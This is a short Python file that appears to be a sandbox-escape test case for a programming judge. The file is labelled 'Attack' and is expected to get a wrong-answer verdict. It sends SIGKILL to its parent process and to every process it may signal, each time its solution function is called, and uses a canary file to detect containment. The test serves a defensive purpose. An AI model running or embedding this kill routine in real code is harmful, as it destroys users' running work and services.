# Attack: kills every process that it may, its own starter included, while functions are called.
# Expect: WA
import os
import signal


def attack():
    if os.path.exists("@CANARY@"):
        return True  # Uncontained it fires nothing: that it could is bad enough.
    for process in (os.getppid() or -1, -1):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    return False


unlocked = attack()


def AcanWin(n):
    attack()
    wins = n % 8 not in (0, 7)
    return wins if unlocked else not wins
